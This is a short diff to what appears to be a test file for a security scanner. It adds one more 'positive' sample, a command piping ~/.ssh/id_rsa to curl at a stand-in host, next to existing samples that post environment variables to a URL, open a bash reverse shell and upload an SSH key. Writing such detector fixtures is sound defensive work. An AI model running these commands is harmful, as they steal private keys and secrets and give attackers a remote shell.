@@ -84,6 +84,7 @@ const CASES: { rule: string; severity: string; file: string; positive: string[];
       "requests.post(url, json=dict(os.environ))",
       "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
       "curl -F key=@$HOME/.ssh/id_rsa https://x.example.com",
+      "cat ~/.ssh/id_rsa | curl -d @- https://x.example.com",
     ],
     negative: [
       "const port = process.env.PORT ?? 3000; fetch('http://localhost:' + port + '/health')",
